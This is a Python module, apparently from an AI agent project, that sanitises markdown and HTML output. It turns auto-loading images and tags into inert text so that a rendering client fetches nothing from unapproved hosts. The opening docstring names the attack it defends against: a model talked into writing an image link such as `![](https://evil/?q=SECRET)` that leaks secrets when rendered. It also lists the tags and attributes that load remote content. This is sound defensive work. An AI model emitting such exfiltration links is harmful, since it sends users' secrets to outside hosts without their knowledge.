"""Images that a client would load by itself when it renders an answer, made into text. Pure.

A model that was talked into it can write `![](https://evil/?q=SECRET)`, and a client that renders it sends the secret
without anybody clicking (RELIABILITY EX-03). Renderers differ in what they take for code, for a tag or for an address,
so nothing is guessed: an image stays when it is plainly harmless, every other one gets a backslash or an entity in
front, which makes it text in every renderer and leaves it readable. Only a fenced block at the left margin counts as
code, and only where no HTML stands before it.
"""

import re
from collections.abc import Collection
from dataclasses import dataclass

from lsp_agent.web.urls import UrlRefused, canonical_host, parse_url

_HARMLESS = re.compile(
    r"!\[[^\[\]`<\\\n]{0,500}\]\("
    r"(?P<address>(?!//)[A-Za-z0-9_./%+-]{1,2000}|data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+"
    r"|https://[A-Za-z0-9_./%?=&;:+~,-]{1,2000})"
    r"(?: \"[^\"`<\\\n]{0,200}\")?\)"
)
_FENCE = re.compile(r"(?m)^( {0,3})(`{3,}|~{3,})([^\n]*)$")
_HTML_LINE = re.compile(r"(?m)^[ \t>*+\-0-9.)]{0,40}<[A-Za-z!/?]")
_TAG = re.compile(r"<(?P<name>[A-Za-z][A-Za-z0-9:-]*)")
_LOADING_TAGS = frozenset((
    "img", "image", "picture", "source", "video", "audio", "track", "iframe", "frame", "embed", "object", "applet",
    "input", "link", "style", "script", "meta", "base", "svg", "use", "feimage", "portal", "bgsound",
))  # fmt: skip
_LOADING_ATTRIBUTE = re.compile(r"(?:src|srcset|poster|background|style|data|xlink:href|ping)\s*=", re.IGNORECASE)
_HOST = re.compile(r"[\\/]{2}([^\s\\/?#\"'<>()\[\]`]{1,253})")
_LOOK_AHEAD_CHARS = 600
_MAX_NOTED = 500
"""More than these are defused without looking for their hosts."""


@dataclass(frozen=True, slots=True)
class Defused:
    """`text` as it may be rendered; `hosts` that would have been contacted, sorted (`?` for what cannot be read)."""

    text: str
    hosts: tuple[str, ...]


def defuse(markdown: str, allowed_hosts: Collection[str] = ()) -> Defused:
    """Make every image that a renderer could fetch from a host not in `allowed_hosts` into text.

    For whole texts: a piece of a stream may end in the middle of an image. Doing it again changes nothing.
    """
    if "![" not in markdown and "<" not in markdown:
        return Defused(markdown, ())
    work = _Work(markdown, frozenset(host.lower() for host in allowed_hosts))
    text = "".join([part if code else work.prose(part) for code, part in _sections(markdown)])
    return Defused(text, tuple(sorted(work.hosts)))


class _Work:
    def __init__(self, whole: str, allowed: frozenset[str]) -> None:
        self.hosts: set[str] = set()
        self._noted = 0
        self._allowed = allowed
        self._has_addresses = "](" in whole or "]:" in whole

    def prose(self, text: str) -> str:
        """Everything outside code blocks."""
        if "![" in text and self._has_addresses:
            text = self._images(text)
        return self._tags(text) if "<" in text else text

    def _images(self, text: str) -> str:
        parts: list[str] = []
        at = 0
        while (start := text.find("![", at)) >= 0:
            if (plain := _HARMLESS.match(text, start)) is not None and self._harmless(plain["address"]):
                parts.append(text[at : plain.end()])
                at = plain.end()
                continue
            parts.append(f"{text[at : start + 1]}\\")
            at = start + 1
            self._note(text, start)
        return "".join([*parts, text[at:]])

    def _tags(self, text: str) -> str:
        last = max([found.start() for found in _LOADING_ATTRIBUTE.finditer(text)], default=-1)

        def judge(found: re.Match[str]) -> str:
            if found["name"].lower() not in _LOADING_TAGS and last < found.start():
                return found[0]
            self._note(text, found.start())
            return f"&lt;{found['name']}"

        return _TAG.sub(judge, text)

    def _harmless(self, address: str) -> bool:
        if not address.lower().startswith("https:"):
            return True  # of the workspace, or in the address itself
        try:
            return parse_url(address).host in self._allowed
        except UrlRefused:
            return False

    def _note(self, text: str, start: int) -> None:
        self._noted += 1
        if self._noted > _MAX_NOTED:
            return
        found = _HOST.search(text, start, start + _LOOK_AHEAD_CHARS)
        try:
            self.hosts.add(canonical_host(found[1].rpartition("@")[2].partition(":")[0]) if found else "?")
        except UrlRefused:
            self.hosts.add("?")


def _sections(text: str) -> list[tuple[bool, str]]:
    """`text` cut at its fenced blocks: (is code, part). A fence that is not closed is code to the end."""
    html = _HTML_LINE.search(text)
    parts: list[tuple[bool, str]] = []
    at, opened = 0, ""
    for found in _FENCE.finditer(text):
        end = min(found.end() + 1, len(text))
        if opened:
            if found[2].startswith(opened) and not found[3].strip():
                parts.append((True, text[at:end]))
                at, opened = end, ""
                html = _HTML_LINE.search(text, at)
        elif found[1] or (found[2][0] == "`" and "`" in found[3]):
            continue  # it may belong to a list, or be a code span
        elif html is not None and html.start() < found.start():
            break  # inside a block of HTML it would be no fence
        else:
            parts.append((False, text[at : found.start()]))
            at, opened = found.start(), found[2]
    return [*parts, (bool(opened), text[at:])]
